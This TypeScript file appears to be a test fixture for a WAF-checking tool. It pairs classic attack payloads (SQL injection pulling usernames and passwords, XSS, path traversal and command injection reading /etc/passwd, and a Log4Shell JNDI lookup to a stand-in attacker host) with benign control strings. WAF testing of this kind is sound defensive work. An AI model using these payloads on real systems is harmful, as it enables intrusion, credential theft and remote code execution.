/**
 * Attack payloads and benign controls, written for gatecheck. A payload is one classic
 * instance of its category, the kind any managed WAF rule set (AWS core rule set, OWASP CRS
 * at paranoia level 1) is expected to stop; the benign corpus is ordinary text that a
 * well-tuned WAF must let through.
 */
export type WafCategory = 'sqli' | 'xss' | 'traversal' | 'cmdi' | 'log4shell';

export interface AttackPayload {
  category: WafCategory;
  name: string;
  value: string;
}

export const ATTACK_PAYLOADS: AttackPayload[] = [
  { category: 'sqli', name: 'tautology', value: "' OR '1'='1" },
  { category: 'sqli', name: 'union select', value: '1 UNION SELECT username, password FROM users--' },
  { category: 'xss', name: 'script tag', value: '<script>alert(1)</script>' },
  { category: 'xss', name: 'img onerror', value: '<img src=x onerror=alert(1)>' },
  { category: 'traversal', name: 'etc/passwd', value: '../../../../etc/passwd' },
  { category: 'cmdi', name: 'semicolon cat', value: '; cat /etc/passwd' },
  { category: 'log4shell', name: 'jndi ldap', value: '${jndi:ldap://attacker.example/a}' },
];

export const BENIGN_PAYLOADS: Array<{ name: string; value: string }> = [
  { name: 'plain words', value: 'hello world' },
  { name: 'name with apostrophe', value: "O'Brien" },
  { name: 'sentence with SQL words', value: 'please select a size and drop me a line' },
];
